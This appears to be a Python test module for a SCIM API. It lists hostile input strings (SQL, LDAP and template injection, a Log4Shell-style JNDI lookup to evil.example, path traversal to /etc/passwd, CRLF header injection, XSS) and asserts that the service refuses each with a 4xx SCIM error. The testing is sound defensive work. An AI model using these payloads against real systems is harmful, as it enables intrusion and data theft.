"""Hostile texts, and requests with them as octets."""

from __future__ import annotations

from tests.api.raw import Answer, send
from tests.support.service import ERROR, SCIM_JSON, Client

JSON = {"Content-Type": SCIM_JSON}
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" or 1 eq 1 or "',
    "\\'; --",
    "%' OR '%'='",
    "x' UNION SELECT * FROM control --",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*)(uid=*))(|(uid=*",
    "admin)(|(userPassword=*)",
    "\\2a\\29\\00",
    "cn=x,dc=example",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "\r\nX-Evil: yes",
    "x\r\n\r\n<html>",
    "<script>alert(1)</script>",
    "%0d%0aX-Evil:%20yes",
    "%s%n%x",
    "%",
    "_",
    "\\",
    '\\"',
    "\ufeff",
    "\u202e",
    "$where",
    "__proto__",
    "constructor",
    "'||pg_sleep(30)||'",
    "1; SELECT SLEEP(30)",
    "\U0010ffff",
]


def sent(client: Client, method: str, target: str | bytes, body: bytes = b"", **headers: str) -> Answer:
    named = [("Authorization", client.headers["Authorization"]), ("Content-Type", SCIM_JSON)]
    named += [(name.replace("_", "-"), value) for name, value in headers.items()]
    return send(client.base, method, target, headers=named, body=body)


def assert_refused(answer: Answer) -> None:
    """A well-formed SCIM error in the 4xx range."""
    assert 400 <= answer.status < 500, answer
    assert answer.headers["content-type"] == SCIM_JSON
    document = answer.json()
    assert document["schemas"] == [ERROR]
    assert document["status"] == str(answer.status)
    assert "x-evil" not in answer.headers
